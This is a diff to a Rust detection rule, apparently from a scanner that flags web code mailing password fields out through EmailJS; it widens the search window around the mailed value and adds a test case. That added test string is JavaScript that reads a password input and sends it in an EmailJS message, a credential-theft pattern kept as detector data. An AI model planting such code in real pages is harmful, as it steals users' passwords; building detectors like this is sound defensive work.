@@ -17,6 +17,7 @@ pub(super) const SIGNAL: Signal = Signal {
     cases: crate::signals::Cases {
         with: &[
             "function s(e){e.preventDefault();emailjs.sendForm('s','t',e.target,'k')}jsx('input',{type:'password',name:'password'})",
+            "const p=document.getElementById('user_password').value;const o={name:m.value,message:`Logs ${p}`};emailjs.send('s','t',o)",
         ],
         without: &[
             "emailjs.sendForm('s','t','#contact','k')",
@@ -28,10 +29,11 @@ pub(super) const SIGNAL: Signal = Signal {
 /// Whether a field is named, not only what is mailed: who makes a password for somebody mails it, too.
 fn reads_field(evidence: &Evidence<'_>, held: Held) -> bool {
     let (items, facts) = (evidence.stream.items(), evidence.facts);
-    let begin = facts.partition_point(|fact| fact.at < held.first);
+    // What is mailed may have been read into a name before: `const p = document.getElementById('pass').value`.
+    let begin = facts.partition_point(|fact| fact.at < held.first.saturating_sub(READ));
     facts[begin..]
         .iter()
-        .take_while(|fact| fact.at <= held.last)
+        .take_while(|fact| fact.at <= held.last + READ)
         .filter(|fact| fact.atom == Atom::SecretField)
         .any(|fact| {
             let item = &items[fact.at as usize];
@@ -42,3 +44,6 @@ fn reads_field(evidence: &Evidence<'_>, held: Held) -> bool {
                 || read.is_some_and(|next| next.kind == Kind::Member && evidence.stream.text(next) == "value")
         })
 }
+
+/// Items around what is mailed.
+const READ: u32 = 150;
